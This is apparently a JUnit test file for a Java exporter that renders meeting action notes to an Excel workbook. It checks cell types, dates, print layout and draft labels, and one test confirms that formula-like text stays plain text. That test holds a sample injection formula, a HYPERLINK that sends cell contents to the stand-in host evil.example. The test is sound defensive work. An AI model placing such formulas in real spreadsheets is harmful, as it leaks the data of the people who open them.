package org.themebot.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class ActionNotesXlsxTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    @Test
    void theCsvColumnsWithTypedTextAsTextAndDatesAsDates() throws IOException {
        try (XSSFWorkbook book = read(MeetingFixtures.september2008())) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(texts(sheet.getRow(0))).containsExactlyElementsOf(ActionNotesRows.HEADER);
            assertThat(sheet.getLastRowNum()).isEqualTo(6);

            Row first = sheet.getRow(1);
            assertThat(DateUtil.isCellDateFormatted(first.getCell(0))).isTrue();
            assertThat(first.getCell(0).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2008, 9, 3));
            assertThat(first.getCell(1).getNumericCellValue()).isEqualTo(2);
            assertThat(first.getCell(4).getCellType()).isEqualTo(CellType.STRING);
            assertThat(first.getCell(4).getStringCellValue()).isEqualTo("Sept 08");
            assertThat(DateUtil.isCellDateFormatted(first.getCell(5))).isTrue();
            assertThat(first.getCell(5).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2008, 9, 30));
            assertThat(first.getCell(6).getStringCellValue()).isEqualTo("Balbir Sohal / Debbie Briggs");
            assertThat(first.getCell(8).getStringCellValue()).isEqualTo("A1");
        }
    }

    @Test
    void noCellIsAFormulaAndFormulaLikeTextStaysAStringAsTyped() throws IOException {
        ActionNotes notes = new ActionNotes("=1+1", MeetingFixtures.MEETING_DATE, false, List.of(), List.of(), List.of(),
                List.of(MeetingFixtures.item(1, "+Budget",
                        new ActionNotes.ActionRow("A1", FORMULA, "-1 week", Optional.empty(), List.of("@Sue"), "open"),
                        new ActionNotes.GoodPractice("G1", "\tTab", "\rCR", "tabled"))),
                Optional.empty());
        try (XSSFWorkbook book = read(notes)) {
            Sheet sheet = book.getSheetAt(0);
            List<Cell> cells = new ArrayList<>();
            sheet.forEach(row -> row.forEach(cells::add));
            assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);

            Row action = sheet.getRow(1);
            assertThat(action.getCell(3).getCellType()).isEqualTo(CellType.STRING);
            assertThat(action.getCell(3).getStringCellValue()).isEqualTo(FORMULA);
            assertThat(action.getCell(3).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(texts(action).subList(2, 10)).containsExactly("+Budget", FORMULA, "-1 week", "", "@Sue", "open", "A1",
                    "Action Notes of the =1+1");
            assertThat(texts(sheet.getRow(2)).subList(3, 9)).containsExactly("\tTab", "", "", "\rCR", "tabled", "G1");
            for (Cell cell : cells) {
                if (cell.getCellType() == CellType.STRING && cell.getRowIndex() > 0) {
                    assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getAddress().toString()).isTrue();
                }
            }
        }
    }

    @Test
    void headerRowFrozenFilteredAndPrintedOnEveryPage() throws IOException {
        try (XSSFWorkbook book = read(MeetingFixtures.september2008())) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getRepeatingRows()).isEqualTo(CellRangeAddress.valueOf("1:1"));
            assertThat(sheet.getColumnWidth(3)).isGreaterThan(sheet.getColumnWidth(4) * 3);
            assertThat(book.getPrintArea(0)).isEqualTo("'Action notes'!$A$1:$I$7");
            assertThat(sheet.getFooter().getCenter()).isEqualTo("Page &P of &N");
            assertThat(book.getProperties().getCoreProperties().getCreator()).isEqualTo(MeetingFixtures.GROUP);
        }
    }

    @Test
    void aDraftSaysSoInThePrintedHeaderAndItsRows() throws IOException {
        ActionNotes base = MeetingFixtures.september2008();
        ActionNotes open = new ActionNotes("E&CC Theme Group", base.meetingDate(), true, base.present(), base.apologies(),
                base.opening(), base.items(), base.nextMeeting());
        try (XSSFWorkbook book = read(open)) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(sheet.getHeader().getCenter()).isEqualTo("Action Notes of the E&&CC Theme Group (draft) — 3 September 2008");
            assertThat(sheet.getRow(1).getCell(9).getStringCellValue()).isEqualTo("Action Notes of the E&CC Theme Group (draft)");
            assertThat(book.getProperties().getCoreProperties().getTitle()).isEqualTo("Action Notes of the E&CC Theme Group (draft)");
        }
    }

    private static XSSFWorkbook read(ActionNotes notes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(new ActionNotesXlsx().render(notes)));
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(cell -> texts.add(cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : cell.toString()));
        return texts;
    }
}
